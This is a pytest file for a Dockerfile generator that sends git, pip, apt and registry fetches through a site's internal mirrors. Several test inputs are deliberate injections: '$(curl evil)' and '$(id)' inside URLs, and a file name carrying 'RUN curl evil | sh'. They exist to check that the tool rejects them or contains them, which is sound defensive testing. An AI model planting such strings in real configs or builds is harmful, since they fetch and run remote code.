"""artifacts.mirrors: one file points every fetch of a generated Dockerfile at a site's mirrors,
and the file says which it used; a bad file is one clear error."""

from __future__ import annotations

from pathlib import Path

import pytest

from resolver.artifacts import dockerfile as df
from resolver.artifacts import mirrors
from resolver.data import matrix
from resolver.data.node import from_flags
from resolver.util.errors import InputError

from .conftest import LIVE_MATRIX
from .helpers import run_cli

CONFIG = """\
git = "https://git.example.internal/github/"
index = "https://pypi.example.internal/simple"
sdist = "https://pypi.example.internal/packages/source/v/vllm"
rocm_wheels = "https://rocm.example.internal/whl/"
get_pip = "https://files.example.internal/get-pip.py"
registry = "harbor.example.internal/dockerhub"
"""


def test_every_fetch_of_the_file_goes_through_the_mirrors(tmp_path: Path) -> None:
    path = tmp_path / "mirrors.toml"
    path.write_text(CONFIG)
    result = run_cli(
        "dockerfile", "--gfx", "gfx942", "--driver", "30.30.3", "--vllm", "0.33.0",
        "--mirror-config", str(path),
        env={"ROCM_VLLM_MATRIX_DIR": str(LIVE_MATRIX)},
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    text = result.stdout
    assert "https://github.com" not in text.replace(
        'org.opencontainers.image.source="https://github.com', ""
    )
    assert "ARG GIT_BASE=https://git.example.internal/github\n" in text
    assert 'git clone "${GIT_BASE}/${TRITON_REPO}.git"' in text
    assert "ENV PIP_INDEX_URL=https://pypi.example.internal/simple" in text
    assert "ARG VLLM_SDIST_URL=https://pypi.example.internal/packages/source/v/vllm/" in text
    assert "ARG ROCM_WHEEL_INDEX=https://rocm.example.internal/whl/" in text
    assert "ARG GET_PIP_URL=https://files.example.internal/get-pip.py" in text
    assert "FROM harbor.example.internal/dockerhub/library/ubuntu:22.04 AS base" in text
    assert "bootstrap.pypa.io" not in text and "files.pythonhosted.org" not in text
    assert f"# Mirrors ({path}):" in text and "#   git: https://git.example.internal/github" in text


def test_without_a_config_the_upstreams_are_the_defaults() -> None:
    m = matrix.load_dir(LIVE_MATRIX)
    node = from_flags(gfx="gfx942", gpus=None, driver="30.30.3", os=None, rocm=None, python=None)
    plan = df.plan_dockerfile(m, node, df.choose(m, node, vllm="0.33.0"))
    text = df.render(plan)
    assert "ARG GIT_BASE=https://github.com\n" in text and "# Mirrors" not in text
    assert "PIP_INDEX_URL" not in text


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ('git = "ftp://x"\n', "is not an http(s) or file:/// URL"),
        ('git = "https://x/$(curl evil)"\n', "is not an http(s) or file:/// URL"),
        ('gti = "https://x"\n', "unknown keys gti"),
        ("git = 5\n", "git is not a URL"),
        ('git = "file:///m/$(id)"\n', "is not an http(s) or file:/// URL"),
        ("git = \n", "mirror config"),
        ('registry = "x y"\n', "registry x y is not a registry host"),
    ],
)
def test_a_bad_mirror_config_is_one_clear_error(tmp_path: Path, content: str, why: str) -> None:
    path = tmp_path / "m.toml"
    path.write_text(content)
    from resolver.util.errors import ResolverError

    with pytest.raises(ResolverError) as err:
        mirrors.load(path)
    assert why in str(err.value) and err.value.hint
    assert isinstance(err.value, InputError) or "registry" in content


def test_the_environment_names_the_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "m.toml"
    path.write_text('git = "https://git.example.internal/gh"\n')
    monkeypatch.setenv("ROCM_VLLM_MIRRORS", str(path))
    assert mirrors.load().git == "https://git.example.internal/gh"
    assert mirrors.load().used() == (("git", "https://git.example.internal/gh"),)
    monkeypatch.delenv("ROCM_VLLM_MIRRORS")
    assert mirrors.load() == mirrors.Mirrors()


def test_a_hostile_mirror_file_name_stays_inside_its_comment(tmp_path: Path) -> None:
    path = tmp_path / "m\nRUN curl evil | sh\n.toml"
    path.write_text('git = "https://git.example.internal/gh"\n')
    m = matrix.load_dir(LIVE_MATRIX)
    node = from_flags(gfx="gfx942", gpus=None, driver="30.30.3", os=None, rocm=None, python=None)
    plan = df.plan_dockerfile(
        m,
        node,
        df.choose(m, node, vllm="0.33.0"),
        mirrors=mirrors.load(path),
    )
    text = df.render(plan)
    assert not any(line.startswith("RUN curl evil") for line in text.splitlines())
    assert "ARG GIT_BASE=https://git.example.internal/gh\n" in text


def test_apt_sources_and_the_deadsnakes_ppa_go_through_the_mirrors(tmp_path: Path) -> None:
    """The base stage's apt sources are rewritten to the site's mirrors ([apt]) before the first
    apt-get, and Python's PPA comes from the site's mirror of it (its key served beside it); the
    result still lints clean."""

    path = tmp_path / "mirrors.toml"
    path.write_text(
        'deadsnakes = "http://apt.example.internal/deadsnakes"\n'
        "[apt]\n"
        '"http://archive.ubuntu.com/ubuntu" = "http://apt.example.internal/ubuntu"\n'
        '"https://repo.radeon.com" = "http://apt.example.internal/radeon"\n'
    )
    loaded = mirrors.load(path)
    assert loaded.apt == (
        ("http://archive.ubuntu.com/ubuntu", "http://apt.example.internal/ubuntu"),
        ("https://repo.radeon.com", "http://apt.example.internal/radeon"),
    )
    m = matrix.load_dir(LIVE_MATRIX)
    node = from_flags(gfx="gfx942", gpus=None, driver="30.30.3", os=None, rocm=None, python=None)
    old = from_flags(gfx="gfx942", gpus=None, driver="6.4.3", os=None, rocm=None, python=None)
    for version in ("0.24.0", "0.33.0", "0.6.6.post1"):
        # 0.6.6.post1's ROCm 6.2 is not in amdgpu 30.30's window: planned on a 6.4 host.
        host = old if version == "0.6.6.post1" else node
        plan = df.plan_dockerfile(m, host, df.choose(m, host, vllm=version), mirrors=loaded)
        text = df.render(plan)
        first_apt = text.index("apt-get update")
        assert (
            text.index(
                "-e 's|http://archive.ubuntu.com/ubuntu|http://apt.example.internal/ubuntu|g'"
            )
            < first_apt
        )
        if "deadsnakes" in text.split("FROM")[1]:
            assert "ppa:deadsnakes" not in text
            assert 'curl -fsSL "http://apt.example.internal/deadsnakes/KEY.gpg"' in text
        (tmp_path / "Dockerfile").write_text(text)
        from .test_dockerfile import hadolint

        assert hadolint(tmp_path / "Dockerfile") == [], version
